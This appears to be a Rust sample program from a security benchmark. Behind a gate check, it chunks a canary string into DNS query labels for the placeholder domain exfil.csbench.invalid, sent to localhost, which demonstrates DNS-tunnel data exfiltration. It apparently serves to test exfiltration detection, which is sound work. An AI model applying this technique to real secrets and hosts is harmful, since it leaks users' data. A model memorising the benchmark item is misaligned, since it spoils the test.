//! Sends data in the labels of names that it asks for.

use csbench_gate as gate;

fn main() {
    if !gate::script() {
        return;
    }
    let secret = "63736265-6e63682d-63616e61-7279".repeat(8);
    for (number, part) in secret.as_bytes().chunks(48).enumerate() {
        let label = String::from_utf8_lossy(part);
        gate::query("127.0.0.1:53", &format!("{number}.{label}.exfil.csbench.invalid"));
    }
    gate::post(&format!("last.{}.exfil.csbench.invalid", &secret[..48]), "");
}
